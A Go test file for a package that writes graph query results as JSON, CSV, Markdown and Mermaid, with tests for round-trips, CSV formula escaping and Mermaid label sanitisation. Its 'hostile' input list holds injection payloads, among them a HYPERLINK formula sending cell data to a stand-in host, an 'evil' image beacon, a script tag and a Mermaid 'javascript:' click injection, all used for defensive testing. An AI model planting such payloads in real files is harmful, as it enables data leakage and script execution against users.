package format

import (
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/trellisgraph/trellis/graph"
)

// hostile are texts that break formats.
var hostile = []string{
	"", " ", "a", "'", "''", `"`, `""`, `"""`, `\`, `\\`, `\n`, "|", `\|`, "a|b", "\n", "\r\n", "\r", "\t", "a\n\nb", " a ", "=1+1", "+1", "-1", "-", "-1.5", "-1.5.2", "--1",
	"@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "\t=1", "＝1", "'=1", ",", "a,b", "null", "true", "1", `\N`, "\x1b[31mred", "\x00", "\x7f", "\u009b31m", "\u2028", "\u202e", "é", "e\u0301", "日本",
	"![x](http://evil/?q)", "<script>", "&amp;", "&#10;", "`code`", "### heading", "|-|", "] --> [", "end", `"]; click n0 "javascript:alert(1)"`, "%%{init: {}}%%", "#quot;", "a;b", "paths", "\ufffd",
}

func text(r *rand.Rand) string {
	s := hostile[r.IntN(len(hostile))]
	for r.IntN(3) == 0 {
		s += hostile[r.IntN(len(hostile))]
	}
	return s
}

// value returns a value of a kind, or null.
func value(r *rand.Rand, k graph.Kind) graph.Value {
	if r.IntN(5) == 0 {
		return graph.Null()
	}
	switch k {
	case graph.KindBool:
		return graph.Bool(r.IntN(2) == 0)
	case graph.KindInt:
		return graph.Int(int64(r.Uint64()) >> r.IntN(64))
	case graph.KindFloat:
		return graph.Float((r.Float64() - .5) * 1e30)
	case graph.KindDecimal:
		return graph.Decimal([]string{"-12.50", "0.00", "99999999999999999999.1"}[r.IntN(3)])
	case graph.KindDate:
		return graph.DateFromDays(int64(r.IntN(4000) - 2000))
	case graph.KindDateTime:
		return graph.DateTime(time.Unix(r.Int64N(1e9), r.Int64N(1e9)))
	case graph.KindUUID:
		return graph.UUID("0f8fad5b-d9cb-469f-a165-70867728950e")
	case graph.KindJSON:
		b, _ := json.Marshal([]any{text(r), nil, -1, map[string]any{text(r): text(r)}})
		return graph.JSON([]string{string(b), "null", `""`, `"|"`, "-5", `"=1"`}[r.IntN(6)])
	}
	return graph.String(text(r))
}

// A made answer is one made at random, with the kinds of its columns.
type made struct {
	*graph.Result
	kinds map[string]graph.Kind
}

var kinds = []graph.Kind{graph.KindBool, graph.KindInt, graph.KindFloat, graph.KindDecimal, graph.KindDate, graph.KindDateTime, graph.KindUUID, graph.KindJSON, graph.KindString, graph.KindString}

func (m *made) props(r *rand.Rand, name string, n int) (out []graph.Property, cut []graph.CutText) {
	for i := range n {
		prop := fmt.Sprintf("p%d", i)
		key := name + " " + prop
		if _, known := m.kinds[key]; !known {
			m.kinds[key] = kinds[r.IntN(len(kinds))]
		}
		out = append(out, graph.Property{Name: prop, Value: value(r, m.kinds[key])})
		if r.IntN(10) == 0 {
			cut = append(cut, graph.CutText{Name: prop, Bytes: r.IntN(1e6)})
		}
	}
	return out, cut
}

func random(r *rand.Rand) made {
	names := []string{graph.ToolFindNodes, graph.ToolTraverse, graph.ToolNeighbors, graph.ToolPaths, graph.ToolAggregate}
	m := made{&graph.Result{Tool: names[r.IntN(len(names))]}, map[string]graph.Kind{}}
	m.Executed = "native"
	if r.IntN(3) == 0 {
		m.TruncatedBy, m.NextCursor = graph.TruncatedRows, text(r)
	}
	if total := r.Int64N(1000); total < 200 && m.Tool == graph.ToolFindNodes {
		m.Total = &total
	}
	for range r.IntN(3) {
		w := graph.Warning{Code: graph.NotFound, Path: text(r) + "/", Message: text(r) + "."}
		if r.IntN(2) == 0 {
			w.Fix = []graph.Patch{{Op: "replace", Path: "/a", Value: text(r)}, {Op: "remove", Path: "/<b>"}}
		}
		m.Warnings = append(m.Warnings, w)
	}
	if m.Tool == graph.ToolAggregate {
		m.columns(r)
		return m
	}
	widths := map[string]int{}
	width := func(name string) int {
		if _, known := widths[name]; !known {
			widths[name] = r.IntN(4)
		}
		return widths[name]
	}
	labels := []string{"person", "post", "city"}
	if m.Tool == graph.ToolFindNodes {
		labels = labels[:1]
	}
	key := func() graph.NodeKey { return graph.NodeKey{Label: labels[r.IntN(len(labels))], ID: text(r)} }
	for range r.IntN(12) {
		k := key()
		n := graph.Node{Label: k.Label, ID: k.ID}
		if walks := m.Tool == graph.ToolTraverse || m.Tool == graph.ToolNeighbors; walks && r.IntN(2) == 0 {
			n.Distance = 1 + r.IntN(3)
		}
		n.Properties, n.Cut = m.props(r, k.Label, width(k.Label))
		m.Nodes = append(m.Nodes, n)
		if n.Distance > 0 || m.Tool == graph.ToolFindNodes {
			m.Returned++
		}
	}
	if m.Tool == graph.ToolFindNodes {
		return m
	}
	for range r.IntN(12) {
		rel := graph.Relationship{Type: []string{"KNOWS", "LIKES"}[r.IntN(2)], From: key(), To: key()}
		n := width(rel.Type)
		if r.IntN(20) == 0 {
			n++ // of a pair with another property
		}
		rel.Properties, rel.Cut = m.props(r, rel.Type, n)
		m.Relationships = append(m.Relationships, rel)
	}
	if m.Tool == graph.ToolPaths {
		for range r.IntN(4) {
			p := graph.Path{Nodes: []graph.NodeKey{key(), key()}, Relationships: []int{r.IntN(9)}, Length: 1}
			if r.IntN(2) == 0 {
				p.Weight = graph.Int(r.Int64N(100))
				m.kinds["paths "+colWeight] = graph.KindInt
			}
			m.Paths = append(m.Paths, p)
		}
		m.Returned = len(m.Paths)
	}
	return m
}

func (m *made) columns(r *rand.Rand) {
	for i := range 1 + r.IntN(3) {
		name := fmt.Sprintf("c%d", i)
		m.kinds[" "+name] = kinds[r.IntN(len(kinds))]
		m.Columns = append(m.Columns, graph.Column{Name: name, Type: m.kinds[" "+name].String()})
	}
	for range r.IntN(6) {
		var row []graph.Value
		for _, c := range m.Columns {
			row = append(row, value(r, m.kinds[" "+c.Name]))
		}
		m.Rows = append(m.Rows, row)
	}
	m.Returned = len(m.Rows)
}

func write(t *testing.T, f Format, r *graph.Result) string {
	b, err := Append([]byte("before"), f, r)
	require.NoError(t, err)
	out, ok := strings.CutPrefix(string(b), "before")
	require.True(t, ok)
	return out
}

// What was written is read back as the document of the same answer, byte for
// byte: JSON and columns all of it, CSV and Markdown all but what was executed.
func TestLossless(t *testing.T) {
	for seed := range uint64(4000) {
		m := random(rand.New(rand.NewPCG(seed, 1)))
		want := write(t, JSON, m.Result)
		require.Equal(t, want, fromColumns(t, []byte(write(t, Columns, m.Result))), "seed %d", seed)
		m.Executed = ""
		want = write(t, JSON, m.Result)
		doc := write(t, CSV, m.Result)
		require.Equal(t, want, fromTexts(t, m.Tool, fromCSV(t, doc, m.Tool != graph.ToolAggregate), m.kinds, m.Columns), "seed %d\n%s", seed, doc)
		doc = write(t, Markdown, m.Result)
		require.Equal(t, want, fromTexts(t, m.Tool, fromMarkdown(t, doc), m.kinds, m.Columns), "seed %d\n%s", seed, doc)
	}
}

func TestExamples(t *testing.T) {
	r := &graph.Result{Tool: graph.ToolNeighbors,
		Nodes: []graph.Node{
			{Label: "person", ID: "2", Distance: 1, Properties: []graph.Property{{Name: "name", Value: graph.String("=Ada|")}}},
			{Label: "city", ID: "-5", Distance: 1},
			{Label: "person", ID: "3", Distance: 2, Properties: []graph.Property{{Name: "name", Value: graph.Null()}}},
		},
		Relationships: []graph.Relationship{{Type: "KNOWS", From: graph.NodeKey{Label: "person", ID: "2"}, To: graph.NodeKey{Label: "person", ID: "3"},
			Properties: []graph.Property{{Name: "since", Value: graph.DateFromDays(0)}}}},
		Summary: graph.Summary{Returned: 3, TruncatedBy: graph.TruncatedRows, Executed: "native"},
	}
	require.Equal(t, `{"format":"knowledge_graph.columns.v1","tool":"explore_neighbors","nodes":[`+
		`{"label":"person","columns":["@n","@id","@distance","name"],"rows":[[0,"2",1,"=Ada|"],[2,"3",2,null]]},`+
		`{"label":"city","columns":["@n","@id","@distance"],"rows":[[1,"-5",1]]}],"relationships":[`+
		`{"type":"KNOWS","from":"person","to":"person","columns":["@from","@to","since"],"rows":[["2","3","1970-01-01"]]}],`+
		`"returned":3,"truncated":true,"truncated_by":"rows","next_cursor":null,"warnings":[],"executed":"native"}`, write(t, Columns, r))
	require.Equal(t, `person
@n,@id,@distance,name
0,2,1,'=Ada|
2,3,2,

city
@n,@id,@distance
1,-5,1

KNOWS: person to person
@from,@to,since
2,3,1970-01-01

truncated
returned,truncated_by,next_cursor
3,rows,
`, write(t, CSV, r))
	require.Equal(t, `### person

|@n|@id|@distance|name|
|-|-|-|-|
|0|2|1|=Ada\||
|2|3|2||

### city

|@n|@id|@distance|
|-|-|-|
|1|-5|1|

### KNOWS: person to person

|@from|@to|since|
|-|-|-|
|2|3|1970-01-01|

### truncated

|returned|truncated_by|next_cursor|
|-|-|-|
|3|rows||
`, write(t, Markdown, r))
	require.Equal(t, `graph LR
%% cut off by rows
n0["person 2"]
n1["city -5"]
n2["person 3"]
n0 -->|KNOWS| n2
`, write(t, Mermaid, r))
}

// No cell of a CSV file begins as a formula does, whatever text it holds.
func TestNoFormulas(t *testing.T) {
	for _, text := range hostile {
		cell := csvText(graph.String(text))
		if _, err := strconv.ParseFloat(cell, 64); err == nil || cell == "" {
			continue
		}
		require.NotContains(t, "=+-@\t\r\n＝＋－＠", string([]rune(cell)[:1]), "%q", text)
	}
}

// Nothing of a text leaves its place in a drawing.
func TestMermaidTexts(t *testing.T) {
	r := &graph.Result{Tool: graph.ToolFindNodes}
	for _, text := range hostile {
		r.Nodes = append(r.Nodes, graph.Node{Label: "person", ID: text})
	}
	r.Nodes = append(r.Nodes, graph.Node{Label: "person", ID: strings.Repeat("x", 1000)})
	unique := slices.Compact(strings.Split(strings.TrimSuffix(write(t, Mermaid, r), "\n"), "\n"))
	require.Len(t, unique, 1+len(r.Nodes))
	for i, line := range unique[1:] {
		rest, ok := strings.CutPrefix(line, fmt.Sprintf(`n%d["person `, i))
		require.True(t, ok, line)
		inner, ok := strings.CutSuffix(rest, `"]`)
		require.True(t, ok, line)
		require.NotRegexp(t, "[\"<>&|`\\[\\](){}%\\\\]|[[:cntrl:]]|\\x{202e}|\\x{2028}", inner)
		require.LessOrEqual(t, len(inner), 400)
	}
}

func TestMermaidTellsWhatIsCutOff(t *testing.T) {
	r := &graph.Result{Tool: graph.ToolFindNodes, Nodes: []graph.Node{{Label: "a", ID: "1"}}}
	r.TruncatedBy = graph.TruncatedRows
	require.Equal(t, "graph LR\n%% cut off by rows\nn0[\"a 1\"]\n", write(t, Mermaid, r))
}

func TestMermaidOfAnAggregate(t *testing.T) {
	_, err := Append(nil, Mermaid, &graph.Result{Tool: graph.ToolAggregate})
	require.True(t, errors.Is(err, graph.Unsupported))
}

func TestParse(t *testing.T) {
	for _, f := range All() {
		got, ok := Parse(string(f))
		require.True(t, ok)
		require.Equal(t, f, got)
		require.Contains(t, Names(), string(f))
		require.NotEmpty(t, f.MediaType())
	}
	_, ok := Parse("JSON")
	require.False(t, ok)
}
